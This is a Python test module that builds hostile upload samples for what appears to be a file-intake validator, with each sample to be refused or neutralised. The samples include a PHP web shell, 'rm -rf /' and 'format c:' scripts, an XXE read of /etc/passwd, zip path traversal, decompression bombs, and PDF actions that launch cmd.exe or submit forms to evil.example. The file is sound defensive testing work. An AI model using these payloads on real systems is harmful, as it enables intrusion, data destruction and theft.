"""Hostile files, each by its name: what a clerk might be sent, and what must become of it."""

import gzip
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.constants import UserAccessPermissions

from tests.hostile.pdfs import (
    PAGE,
    PLAIN,
    packed,
    packed_objects,
    pdf_of,
    stream,
    with_annotation,
    with_catalog,
    with_page,
)
from tests.services.dossiers import chunk, pdf, picture, pixel_bomb

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}" + rb"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"/S/JavaScript/JS(app.alert(1))"
MARK = b"HIDDEN-PASSENGER"
"""What a neutralised file carried and what is gone from what is kept."""
SOI_JPG, HEAD_PNG = b"\xff\xd8", b"\x89PNG\r\n\x1a\n"

TYPE, BROKEN, ACTIVE, ATTACHED = "by its content", "damaged", "contains a script", "other files"
TWO, MUCH, LARGE = "two kinds of file", "takes too much", "is larger than"


def archive(*members: tuple[str, bytes], comment: bytes = b"") -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in members:
            file.writestr(name, content)
        file.comment = comment
    return made.getvalue()


def tape(name: str, content: bytes) -> bytes:
    made = BytesIO()
    with tarfile.open(fileobj=made, mode="w") as file:
        facts = tarfile.TarInfo(name)
        facts.size = len(content)
        file.addfile(facts, BytesIO(content))
    return made.getvalue()


def png_with(*chunks: bytes) -> bytes:
    """Return an ordinary PNG with `chunks` put before its end."""
    whole = picture("PNG")
    return whole[:-12] + b"".join(chunks) + whole[-12:]


def jpg_with(segment: bytes, marker: bytes = b"\xff\xfe") -> bytes:
    """Return an ordinary JPG with a comment, or another segment, at its beginning."""
    body = marker + struct.pack(">H", len(segment) + 2) + segment
    return SOI_JPG + body + picture("JPEG")[2:]


def animated() -> bytes:
    frames = [Image.new("RGB", (40, 40), colour) for colour in ("red", "green", "blue")]
    made = BytesIO()
    frames[0].save(made, "PNG", save_all=True, append_images=frames[1:], duration=50)
    return made.getvalue()


def png_with_text() -> bytes:
    facts = PngImagePlugin.PngInfo()
    facts.add_text("Comment", MARK.decode())
    facts.add_itxt("XML:com.adobe.xmp", f"<x>{MARK.decode()}</x>")
    made = BytesIO()
    Image.new("RGB", (30, 30)).save(made, "PNG", pnginfo=facts)
    return made.getvalue()


def located() -> bytes:
    camera = Image.Exif()
    camera[0x8825] = {2: (28.0, 11.0, 45.0)}
    camera[0x010E] = MARK.decode()
    made = BytesIO()
    Image.new("RGB", (60, 40)).save(made, "JPEG", exif=camera)
    return made.getvalue()


def header_of(kind: bytes, width: int, height: int) -> bytes:
    """Return a PNG or JPG that announces so many dots."""
    if kind == b"jpg":
        whole = picture("JPEG")
        at = whole.index(b"\xff\xc0") + 5
        return whole[:at] + struct.pack(">HH", height, width) + whole[at + 4 :]
    body = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    data = zlib.compress(b"\0" * 1000)
    return HEAD_PNG + chunk(b"IHDR", body) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def two_page_counts() -> bytes:
    """One reader follows the tree, another believes the number."""
    return pdf_of({**PLAIN, 2: b"<</Type/Pages/Count 1/Kids[3 0 R 3 0 R null 99 0 R]>>"})


def later_script() -> bytes:
    """An ordinary file to which a later change adds the script."""
    first = pdf_of(PLAIN)
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction<<%s>>>>" % SCRIPT
    added = b"1 0 obj\n%s\nendobj\n" % catalog
    table = b"xref\n1 1\n%010d 00000 n \n" % len(first)
    old = first.rindex(b"xref\n0")
    tail = b"trailer\n<</Size 5/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    return first + added + table + tail % (old, len(first) + len(added))


def unlisted_script() -> bytes:
    """The script stands in an object that no table mentions."""
    hidden = b"77 0 obj\n<<%s>>\nendobj\n" % SCRIPT
    return pdf_of({**PLAIN, 4: PLAIN[4] + b"\nendobj\n" + hidden[: -len(b"endobj\n")]})


def bomb_stream(size: int) -> bytes:
    return pdf_of({**PLAIN, 4: packed(b" " * size)})


def twice_packed() -> bytes:
    once = zlib.compress(zlib.compress(b"\0" * 50_000_000, 9), 9)
    return pdf_of({**PLAIN, 4: stream(once, b"/Filter[/FlateDecode/FlateDecode]")})


def bomb_picture() -> bytes:
    facts = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceGray"
    return with_page(b"/Resources<</XObject<</I 9 0 R>>>>", {9: packed(b"\0" * 1_000_000, facts)})


def many_objects() -> bytes:
    return pdf_of({**PLAIN, **dict.fromkeys(range(5, 100100), b"0")})


def endless_filters() -> bytes:
    names = b"/ASCIIHexDecode" * 40
    return pdf_of({**PLAIN, 4: stream(b"00>", b"/Filter[%s]" % names)})


def archive_in(carrier: bytes) -> bytes:
    """Return a file that opens as `carrier` and unpacks as an archive whose comment covers the end."""
    cut = carrier.rindex(b"startxref")
    packed_up = archive(("setup.exe", b"MZ" + bytes(100)), comment=carrier[cut:])
    return carrier[:cut] + packed_up


def disk_image() -> bytes:
    whole = pdf_of({**PLAIN, 9: stream(b"\0" * 40_000)})
    return whole[:0x8001] + b"CD001" + whole[0x8006:]


def text_bomb() -> bytes:
    return png_with(chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * 80_000_000, 9)))


def restricted(content: bytes, password: str = "", algorithm: str = "AES-256") -> bytes:
    """Return the PDF encrypted under an owner password; without another one it opens all the same."""
    writer = PdfWriter(clone_from=PdfReader(BytesIO(content)))
    writer.encrypt(
        password, "owner", algorithm=algorithm, permissions_flag=UserAccessPermissions.PRINT
    )
    made = BytesIO()
    writer.write(made)
    return made.getvalue()


def scripted() -> bytes:
    return with_catalog(b"/OpenAction 9 0 R", {9: b"<<%s>>" % SCRIPT})


REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    # another kind of file under a false name
    "empty": (lambda: b"", "is empty"),
    "windows program": (lambda: b"MZ\x90\0" + bytes(500), TYPE),
    "linux program": (lambda: b"\x7fELF\2\1\1" + bytes(500), TYPE),
    "mac program": (lambda: b"\xcf\xfa\xed\xfe" + bytes(500), TYPE),
    "java class": (lambda: b"\xca\xfe\xba\xbe" + bytes(500), TYPE),
    "shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", TYPE),
    "batch file": (lambda: b"@echo off\r\nformat c:\r\n", TYPE),
    "php page": (lambda: b"<?php system($_GET['c']); ?>", TYPE),
    "web page": (lambda: b"<!doctype html><script>alert(1)</script>", TYPE),
    "svg with script": (
        lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        TYPE,
    ),
    "xml with outside entity": (
        lambda: (
            b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"
        ),
        TYPE,
    ),
    "eicar": (lambda: EICAR, TYPE),
    "zip": (lambda: archive(("a.txt", b"a")), TYPE),
    "zip bomb": (lambda: archive(("0", b"\0" * 20_000_000)), TYPE),
    "zip with a way up": (lambda: archive(("../../etc/passwd", b"a")), TYPE),
    "word document": (lambda: archive(("word/document.xml", b"<w/>")), TYPE),
    "word with macro": (lambda: archive(("word/vbaProject.bin", b"\xd0\xcf")), TYPE),
    "excel sheet": (lambda: archive(("xl/workbook.xml", b"<w/>")), TYPE),
    "old office document": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), TYPE),
    "rtf": (lambda: b"{\\rtf1\\object\\objdata 0105}", TYPE),
    "ofd document": (lambda: archive(("OFD.xml", b"<ofd/>")), TYPE),
    "rar": (lambda: b"Rar!\x1a\x07\x00" + bytes(100), TYPE),
    "7z": (lambda: b"7z\xbc\xaf\x27\x1c" + bytes(100), TYPE),
    "gzip bomb": (lambda: gzip.compress(b"\0" * 10_000_000), TYPE),
    "tar": (lambda: tape("a.pdf", pdf()), TYPE),
    "postscript": (lambda: b"%!PS-Adobe-3.0\n(x) run\n", TYPE),
    "gif": (lambda: b"GIF89a" + bytes(60), TYPE),
    "webp": (lambda: b"RIFF\x24\0\0\0WEBPVP8 " + bytes(40), TYPE),
    "bmp": (lambda: b"BM" + bytes(60), TYPE),
    "tiff": (lambda: b"II*\0" + bytes(60), TYPE),
    "heic photo": (lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(60), "HEIC"),
    "video": (lambda: b"\0\0\0\x18ftypmp42" + bytes(60), TYPE),
    "shortcut": (lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(60), TYPE),
    "text": (lambda: "本人承诺以上属实".encode(), TYPE),
    "nothing but zeros": (lambda: bytes(5000), TYPE),
    "pdf behind other bytes": (lambda: b"MZ" + bytes(300) + pdf(), TYPE),
    # PDF: broken
    "pdf cut short": (lambda: pdf(3)[:-60], BROKEN),
    "pdf cut in half": (lambda: (whole := pdf(3))[: len(whole) // 2], BROKEN),
    "pdf later part cut": (lambda: later_script()[:-30], BROKEN),
    "pdf of rubbish": (lambda: b"%PDF-1.7\n" + b"garbage " * 50 + b"\n%%EOF\n", BROKEN),
    "pdf without catalog": (lambda: pdf_of({2: PLAIN[2], 3: PAGE, 4: PLAIN[4]}), BROKEN),
    "pdf without pages": (lambda: pdf(0), "has no page"),
    "pdf of empty page": (lambda: pdf().replace(b"595", b"000"), BROKEN),
    "pdf understood differently": (two_page_counts, BROKEN),
    # PDF: locked
    "pdf with password": (lambda: pdf(password="secret"), "password"),
    "pdf with password and script": (lambda: restricted(scripted(), "secret"), "password"),
    "pdf locked for some persons": (
        lambda: pdf_of(PLAIN, trailer=b"/Encrypt<</Filter/Adobe.PubSec/V 4>>"),
        "password",
    ),
    "pdf locked in a way to come": (
        lambda: pdf_of(
            PLAIN, trailer=b"/ID[<00><00>]/Encrypt<</Filter/Standard/V 9/R 9/O(a)/U(b)/P 1>>"
        ),
        "password",
    ),
    "pdf script behind an owner password": (lambda: restricted(scripted()), ACTIVE),
    # PDF: too much
    "pdf of 301 pages": (lambda: pdf(301), "more than 300 pages"),
    "pdf beyond the size": (lambda: pdf() + b"\n" * 6_000_000, LARGE),
    "pdf unpacking bomb": (lambda: bomb_stream(200_000_000), MUCH),
    "pdf packed twice": (twice_packed, MUCH),
    "pdf picture bomb": (bomb_picture, MUCH),
    "pdf of endless filters": (endless_filters, MUCH),
    "pdf of too many objects": (many_objects, MUCH),
    # PDF: runs something
    "pdf script at opening": (lambda: with_catalog(b"/OpenAction<<%s>>" % SCRIPT), ACTIVE),
    "pdf script elsewhere": (
        lambda: with_catalog(b"/OpenAction 9 0 R", {9: b"<<%s>>" % SCRIPT}),
        ACTIVE,
    ),
    "pdf script by name": (
        lambda: with_catalog(b"/Names<</JavaScript<</Names[(a)9 0 R]>>>>", {9: b"<<%s>>" % SCRIPT}),
        ACTIVE,
    ),
    "pdf script in a stream": (
        lambda: with_catalog(
            b"/OpenAction<</S/JavaScript/JS 9 0 R>>", {9: packed(b"app.alert(1)")}
        ),
        ACTIVE,
    ),
    "pdf script disguised": (
        lambda: with_catalog(b"/OpenAction<</S/J#61vaScri#70t/J#53(app.alert(1))>>"),
        ACTIVE,
    ),
    "pdf script in packed objects": (
        lambda: packed_objects(
            {1: b"<</Type/Catalog/Pages 2 0 R/OpenAction<<%s>>>>" % SCRIPT, 2: PLAIN[2], 3: PAGE}
        ),
        ACTIVE,
    ),
    "pdf script on a page": (lambda: with_page(b"/AA<</O<<%s>>>>" % SCRIPT), ACTIVE),
    "pdf script in a field": (
        lambda: with_annotation(b"/Subtype/Widget/FT/Tx/T(a)/AA<</K<<%s>>>>" % SCRIPT),
        ACTIVE,
    ),
    "pdf script as second act": (
        lambda: with_catalog(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<<%s>>>>" % SCRIPT),
        ACTIVE,
    ),
    "pdf script added later": (later_script, ACTIVE),
    "pdf script outside the table": (unlisted_script, ACTIVE),
    "pdf script in an outline": (
        lambda: with_catalog(
            b"/Outlines 8 0 R",
            {8: b"<</First 9 0 R/Last 9 0 R>>", 9: b"<</Title(a)/Parent 8 0 R/A<<%s>>>>" % SCRIPT},
        ),
        ACTIVE,
    ),
    "pdf link that is a script": (
        lambda: with_annotation(b"/Subtype/Link/A<</S/URI/URI(JavaScript:alert\\(1\\))>>"),
        ACTIVE,
    ),
    "pdf starts a program": (
        lambda: with_catalog(b"/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"),
        ACTIVE,
    ),
    "pdf opens another file": (
        lambda: with_annotation(b"/Subtype/Link/A<</S/GoToR/F(\\\\\\\\evil\\\\share)/D[0/Fit]>>"),
        ACTIVE,
    ),
    "pdf opens an inner file": (lambda: with_catalog(b"/OpenAction<</S/GoToE/D[0/Fit]>>"), ACTIVE),
    "pdf sends a form": (
        lambda: with_annotation(b"/Subtype/Link/A<</S/SubmitForm/F(http://evil.example)>>"),
        ACTIVE,
    ),
    "pdf takes in data": (lambda: with_catalog(b"/OpenAction<</S/ImportData/F(a.fdf)>>"), ACTIVE),
    "pdf xfa form": (
        lambda: with_catalog(b"/AcroForm<</Fields[]/XFA 9 0 R>>", {9: packed(b"<xdp/>")}),
        ACTIVE,
    ),
    "pdf rich media": (lambda: with_annotation(b"/Subtype/RichMedia/RichMediaContent<<>>"), ACTIVE),
    "pdf film": (lambda: with_annotation(b"/Subtype/Movie/Movie<</F(a.avi)>>"), ACTIVE),
    "pdf screen": (lambda: with_annotation(b"/Subtype/Screen/A<</S/Rendition/OP 0>>"), ACTIVE),
    "pdf sound": (
        lambda: with_annotation(b"/Subtype/Sound/Sound 8 0 R", {8: stream(b"a")}),
        ACTIVE,
    ),
    "pdf three-dimensional": (
        lambda: with_annotation(b"/Subtype/3D/3DD 8 0 R", {8: stream(b"a")}),
        ACTIVE,
    ),
    # PDF: carries something
    "pdf with a file inside": (
        lambda: with_catalog(
            b"/Names<</EmbeddedFiles<</Names[(a)9 0 R]>>>>",
            {
                8: stream(b"MZ", b"/Type/EmbeddedFile"),
                9: b"<</Type/Filespec/F(a.exe)/EF<</F 8 0 R>>>>",
            },
        ),
        ATTACHED,
    ),
    "pdf with a pinned file": (
        lambda: with_annotation(b"/Subtype/FileAttachment/FS<</F(a.exe)>>"),
        ATTACHED,
    ),
    "pdf portfolio": (
        lambda: with_catalog(
            b"/Collection<</View/D>>/AF[9 0 R]",
            {8: stream(b"MZ"), 9: b"<</Type/Filespec/F(a.exe)/EF<</F 8 0 R>>>>"},
        ),
        ATTACHED,
    ),
    "pdf with a loose inner file": (
        lambda: pdf_of({**PLAIN, 9: stream(b"MZ", b"/Type/EmbeddedFile")}),
        ATTACHED,
    ),
    # two kinds of file in one
    "pdf and web page": (
        lambda: pdf_of(PLAIN, header=b"%PDF-1.7\n%<html><script>alert(1)</script></html>\n"),
        TWO,
    ),
    "pdf and php": (lambda: pdf_of(PLAIN, header=b"%PDF-1.7\n%<?php system('id'); ?>\n"), TWO),
    "pdf and zip": (lambda: archive_in(pdf_of(PLAIN)), TWO),
    "pdf and tar": (lambda: tape("%PDF-1.7", pdf_of(PLAIN)) + b"\n%%EOF\n", TWO),
    "pdf and rar": (lambda: pdf_of({**PLAIN, 9: stream(b"Rar!\x1a\x07\0 evil")}), TWO),
    "pdf and 7z": (lambda: pdf_of({**PLAIN, 9: stream(b"7z\xbc\xaf\x27\x1c evil")}), TWO),
    "pdf and disk image": (disk_image, TWO),
    # pictures
    "png of 900 million dots": (pixel_bomb, "too many pixels"),
    "png of two thousand million dots": (lambda: header_of(b"png", 50_000, 50_000), "pixels"),
    "png without dots": (lambda: header_of(b"png", 0, 10), BROKEN),
    "jpg of four thousand million dots": (lambda: header_of(b"jpg", 65_000, 65_000), "pixels"),
    "png of zeros": (lambda: HEAD_PNG + bytes(60), BROKEN),
    "png cut short": (lambda: (whole := picture("PNG", (300, 300)))[: len(whole) // 2], BROKEN),
    "png with a false sum": (
        lambda: (whole := picture("PNG"))[:20] + b"\xff" + whole[21:],
        BROKEN,
    ),
    "png text bomb": (text_bomb, MUCH),
    "jpg of zeros": (lambda: b"\xff\xd8\xff\xe0" + bytes(60), BROKEN),
    "jpg cut short": (lambda: (whole := picture("JPEG", (400, 400)))[: len(whole) // 2], BROKEN),
}
"""Name → how it is made, and words of the sentence that refuses it."""

NEUTRALISED: dict[str, Callable[[], bytes]] = {
    "jpg with a web page in its comment": lambda: jpg_with(
        b"<html><script>" + MARK + b"</script></html>"
    ),
    "jpg with php in its comment": lambda: jpg_with(b"<?php " + MARK + b" ?>"),
    "jpg with eicar in its comment": lambda: jpg_with(EICAR + MARK),
    "jpg with a private segment": lambda: jpg_with(b"ICC_PROFILE\0\1\1" + MARK, b"\xff\xe2"),
    "jpg with a place in it": located,
    "jpg and zip": lambda: picture("JPEG") + archive((MARK.decode(), b"MZ")),
    "jpg and rar": lambda: picture("JPEG") + b"Rar!\x1a\x07\0" + MARK,
    "jpg and pdf": lambda: picture("JPEG") + pdf_of({**PLAIN, 9: b"(%s)" % MARK}),
    "jpg with a program behind": lambda: picture("JPEG") + b"MZ\x90\0" + MARK,
    "jpg with a film behind": lambda: picture("JPEG") + b"\0\0\0\x18ftypmp42" + MARK,
    "png with text": png_with_text,
    "png with a program in a chunk": lambda: png_with(chunk(b"exEc", b"MZ" + MARK)),
    "png with a script behind": lambda: picture("PNG") + b"<script>" + MARK + b"</script>",
    "png and zip": lambda: picture("PNG") + archive((MARK.decode(), b"MZ")),
    "png that moves": lambda: animated() + MARK,
    "pdf with a program behind": lambda: pdf() + b"MZ\x90\0" + MARK,
    "pdf with a web page behind": lambda: pdf() + b"<script>" + MARK + b"</script>",
    "pdf with a zip behind": lambda: pdf() + archive((MARK.decode(), b"MZ" + bytes(50))),
    "pdf with eicar behind": lambda: pdf() + EICAR + MARK,
}
"""Name → how it is made; it is taken, without what it carried."""
